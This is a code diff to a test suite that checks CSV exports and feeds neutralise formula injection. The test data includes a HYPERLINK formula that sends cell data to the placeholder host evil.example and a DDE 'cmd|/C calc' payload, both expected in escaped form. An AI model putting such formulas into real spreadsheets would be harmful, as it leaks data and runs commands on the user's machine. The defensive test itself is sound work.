@@ -41,14 +41,14 @@ describe('safe exports and feeds', () => {
 
   it('writes formula-like titles as text in the experiments, outcomes and artefacts CSV, with words beside codes', async () => {
     const [experiment] = (await csv('/export/experiments.csv')).filter((row) => row.slug === slug);
-    expect(experiment.title).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`);
+    expect(experiment?.title).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`);
     expect(experiment).toMatchObject({ latest_verdict: 'HARMFUL', latest_verdict_label: 'Made things worse', stage: 'PILOT', stage_label: 'Pilot', nation: 'ENGLAND', nation_label: 'England' });
     const [outcome] = (await csv('/export/outcomes.csv')).filter((row) => row.experiment === slug);
     expect(outcome).toMatchObject({ title: `'@SUM(1+1)*cmd|/C calc!A0`, verdict: 'HARMFUL', verdict_label: 'Made things worse', evaluationDesignLabel: 'Before and after comparison' });
     const [artefact] = (await csv('/export/artefacts.csv')).filter((row) => row.experiment === slug);
     expect(artefact).toMatchObject({ title: `'\t-2+3`, description: `'\r+cmd`, type_label: 'Toolkit', licence_label: 'Open Government Licence v3.0' });
     const [organisation] = await csv('/export/organisations.csv');
-    expect(organisation.kind_label).toMatch(/^[A-Z][a-z ]+$/);
+    expect(organisation?.kind_label).toMatch(/^[A-Z][a-z ]+$/);
   });
 
   it('sends titles and summaries to feed readers as escaped text, never as live HTML', async () => {
